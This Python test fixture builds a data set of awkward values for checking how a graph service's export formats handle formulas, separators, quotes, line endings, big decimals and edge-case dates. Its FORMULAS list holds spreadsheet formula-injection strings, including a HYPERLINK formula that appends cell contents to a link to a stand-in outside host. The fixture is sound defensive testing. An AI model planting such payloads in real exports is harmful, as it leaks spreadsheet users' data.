"""A data set of what formats get wrong: formulas, separators, quotes, line ends, exact decimals, old days."""

from datetime import date
from decimal import Decimal

from graph_service.domain.dataset import DataSet
from graph_service.domain.model.entities import (
    Alliance,
    AllianceStage,
    Company,
    Competition,
    CooperationMode,
    Financials,
    Holding,
    Membership,
    Need,
    Resource,
    ResourceKind,
)
from graph_service.formats.readers.csv_reader import read_folder
from tests.formats.folders import LIFE

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://elsewhere.example/?"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "'=1",
    "''@x",
    "＝1",
)
TEXTS = (
    *FORMULAS,
    "-5",
    "1e5",
    "007",
    "TRUE",
    "NULL",
    "a;b",
    "a\\;b\\",
    'say "a", b',
    "<b>&amp;</b>",
    "空 ☃ 🜁",
    "'",
)


def peculiar() -> DataSet:
    """Return a company for each text, an empty one, and one that states everything; edges among them."""
    companies = [
        Company(
            key=f"c{number:02d}",
            name=text,
            industry=text,
            tags=tuple(dict.fromkeys((text, "b"))),
            description=f"{text}\nsecond line,\r\nthird\tone\rfourth",
        )
        for number, text in enumerate(TEXTS)
    ]
    figures = Financials(
        year=2024,
        currency="EUR",
        revenue=Decimal("123456789012345678.123456"),
        profit=Decimal("-100.00"),
        cash_flow=Decimal("7"),
        debt_ratio=0.1 + 0.2,
    )
    companies.append(
        Company(
            key="full",
            name="Full",
            industry="x",
            country="NO",
            regions=("North", "South; East"),
            segments=("a",),
            employees=2**31 - 1,
            founded_year=1066,
            website="https://example.com/a?b=c&d",
            description="d",
            tags=("t",),
            financials=figures,
        )
    )
    companies.append(
        Company(key="zero", name="Zero", employees=0, financials=Financials(profit=Decimal("0.5")))
    )
    return DataSet(
        companies=tuple(companies),
        resources=tuple(
            Resource(key=f"r{number}", name=text, kind=ResourceKind.DATA, pooled=number % 2 == 0)
            for number, text in enumerate(FORMULAS)
        ),
        alliances=(
            Alliance(
                key="all",
                name="=All",
                modes=(CooperationMode.CHANNEL, CooperationMode.JOINT_SALES),
                stage=AllianceStage.ACTIVE,
                exclusive=True,
                starts_on=date(1899, 12, 31),
                ends_on=date(9999, 12, 31),
                scope="-scope",
            ),
        ),
        holdings=(
            Holding(company="c00", resource="r0", level=0.0, evidence="=e"),
            Holding(company="full", resource="r0", level=1e-9),
            Holding(company="full", resource="r1", level=1.0),
        ),
        needs=(
            Need(company="c00", resource="r1", importance=1 / 3, required_level=0.7),
            Need(company="full", resource="r1", importance=0.5),  # it also has r1: two edges of one pair
            Need(company="zero", resource="r2", importance=1.0),
        ),
        memberships=(
            Membership(alliance="all", company="c00", role="@lead", until=date(2020, 1, 1)),
            Membership(alliance="all", company="c00", since=date(2021, 1, 1)),
            Membership(alliance="all", company="full"),
        ),
        competitions=(Competition(a="c00", b="full", intensity=0.25, evidence="+e"),),
    )


def life() -> DataSet:
    """Return a data set with a record of every kind."""
    dataset = read_folder(LIFE).dataset
    assert dataset is not None
    return dataset
